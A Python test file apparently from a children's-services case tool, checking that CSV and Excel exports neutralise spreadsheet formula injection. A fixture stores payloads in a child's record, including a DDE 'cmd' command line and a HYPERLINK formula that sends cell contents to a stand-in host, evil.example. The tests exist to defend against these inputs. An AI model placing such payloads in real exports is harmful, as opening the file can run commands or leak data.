"""Formula injection: every payload is neutralised in CSV and stored as text in Excel.

The workbooks are read back with openpyxl: no cell is a formula (nor an error code), the text
is exactly what was stored, and numbers and dates are still numbers and dates (a negative
number stays a number). The end-to-end test puts the payloads in a child's id and name and
exports the schedule through the command line.
"""

from __future__ import annotations

import csv
import datetime as dt

import openpyxl
import pytest

from reviewdesk.cli.main import main
from reviewdesk.export.writers import write_table_csv, write_table_xlsx
from reviewdesk.storage.db import open_database
from reviewdesk.storage.models import Child, Meeting, PeriodOfCare
from tests.test_safefiles import PAYLOADS

COLUMNS = ("payload", "n", "negative", "ratio", "due", "flag")
ERROR_CODES = ("#N/A", "#DIV/0!", "#REF!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!")


def _records() -> list[list[object]]:
    return [
        [text, i, -5 - i, -0.25 * i, dt.date(2025, 1, 6 + i % 20), i % 2 == 0]
        for i, text in enumerate([*PAYLOADS, *ERROR_CODES, "plain text", ""])
    ]


def _read_csv(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_neutralises_every_payload_and_keeps_numbers(tmp_path):
    path = tmp_path / "t.csv"
    records = _records()
    write_table_csv(path, COLUMNS, records)
    rows = _read_csv(path)
    assert rows[0] == list(COLUMNS)
    for record, row in zip(records, rows[1:], strict=True):
        text = record[0]
        if text and text[0] in "=+-@\t\r":
            assert row[0] == "'" + text
        else:
            assert row[0] == text
        assert row[1:5] == [str(record[1]), str(record[2]), str(record[3]), record[4].isoformat()]
        assert row[2].startswith("-")  # a negative number is written as the number it is
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_header_is_neutralised_too(tmp_path, payload):
    path = tmp_path / "h.csv"
    write_table_csv(path, [payload], [["x"]])
    assert _read_csv(path)[0] == ["'" + payload]


def test_xlsx_stores_every_payload_as_text_never_a_formula(tmp_path):
    path = tmp_path / "t.xlsx"
    records = _records()
    write_table_xlsx(path, "=Sheet", COLUMNS, records)
    ws = openpyxl.load_workbook(path).active
    assert ws.title == "=Sheet"
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert all(c.data_type != "e" for c in cells)
    rows = list(ws.iter_rows(min_row=2))
    for record, row in zip(records, rows, strict=True):
        text = record[0]
        if text:
            # exactly, not prefixed (XML reads a carriage return back as a line feed)
            assert row[0].value == text.replace("\r", "\n") and row[0].data_type == "s"
            assert row[0].quotePrefix == (text[0] in "=+-@\t\r")
        assert row[1].value == record[1] and row[1].data_type == "n"
        assert row[2].value == record[2] and row[2].data_type == "n"  # -5: a number
        assert row[3].value == pytest.approx(record[3]) and row[3].data_type == "n"
        assert row[4].value.date() == record[4] and row[4].number_format == "DD/MM/YYYY"
        assert row[5].value is record[5]


def test_xlsx_holds_text_excel_cannot(tmp_path):
    path = tmp_path / "odd.xlsx"
    write_table_xlsx(path, "Odd", ["name"], [["Ann\x01\x0bLee"], ["x" * 40_000]])
    ws = openpyxl.load_workbook(path).active
    assert ws["A2"].value == "Ann\ufffd\ufffdLee"
    assert len(ws["A3"].value) == 32_767 and ws["A3"].value.endswith("…")


def test_a_failed_workbook_leaves_no_file_and_no_traceback(tmp_path, capfd):
    import gc

    class Unwritable:
        pass

    with pytest.raises(ValueError):
        write_table_xlsx(tmp_path / "bad.xlsx", "Bad", ["x"], [["ok"], [Unwritable()]])
    gc.collect()
    assert capfd.readouterr().err == ""
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def hostile_db(tmp_path):
    """A child whose id and names are formula payloads, with a review booked."""
    path = tmp_path / "hostile.sqlite"
    db = open_database(path)
    with db.session() as s:
        child = Child(
            local_id="@SUM(1+1)*cmd|' /C calc'!A0",
            first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            last_name="-2+3+cmd|' /C calc'!A0",
            dob=dt.date(2015, 6, 1),
        )
        period = PeriodOfCare(start=dt.date(2024, 11, 4))
        child.periods.append(period)
        s.add(child)
        s.flush()
        s.add(
            Meeting(
                child=child,
                period=period,
                process="lac",
                meeting_type="lac_review",
                status="booked",
                booked_date=dt.date(2024, 11, 28),
            )
        )
    db.dispose()
    return path


def test_the_schedule_export_is_safe_end_to_end(hostile_db, tmp_path):
    csv_path, xlsx_path = tmp_path / "s.csv", tmp_path / "s.xlsx"
    for fmt, path in (("csv", csv_path), ("xlsx", xlsx_path)):
        argv = ["--db", str(hostile_db), "export", "schedule", "--as-of", "2025-01-06"]
        assert main([*argv, "--format", fmt, "-o", str(path)]) == 0
    rows = _read_csv(csv_path)
    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click") -2+3+cmd|\' /C calc\'!A0'
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    ws = openpyxl.load_workbook(xlsx_path).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["A2"].value == "@SUM(1+1)*cmd|' /C calc'!A0" and ws["A2"].quotePrefix
    assert ws["B2"].value.startswith("=HYPERLINK(") and ws["B2"].data_type == "s"


def test_csv_cells_are_those_of_the_general_rule(tmp_path):
    """The CSV writer makes text and whole numbers safe inline (a register's schedule is
    millions of cells): every cell must be what `neutralise_cell` of the value as text gives."""
    import enum

    from reviewdesk.export.writers import _csv_value
    from reviewdesk.safefiles import neutralise_cell

    class Kind(enum.StrEnum):
        FORMULA = "=1+1"
        PLAIN = "plain"

    values = [
        *PAYLOADS,
        *ERROR_CODES,
        "",
        "plain",
        Kind.FORMULA,
        Kind.PLAIN,
        0,
        -7,
        10**15,
        -0.5,
        2.25,
        True,
        False,
        None,
        dt.date(2024, 2, 29),
        dt.time(9, 5),
        dt.datetime(2024, 3, 31, 1, 30),
    ]
    records = [values[i:] + values[:i] for i in range(0, len(values), 5)]
    fast, general = tmp_path / "fast.csv", tmp_path / "general.csv"
    write_table_csv(fast, COLUMNS, records)
    with general.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(COLUMNS)
        writer.writerows([neutralise_cell(_csv_value(v)) for v in r] for r in records)
    assert fast.read_bytes() == general.read_bytes()
    assert "'=1+1" in _read_csv(fast)[1]
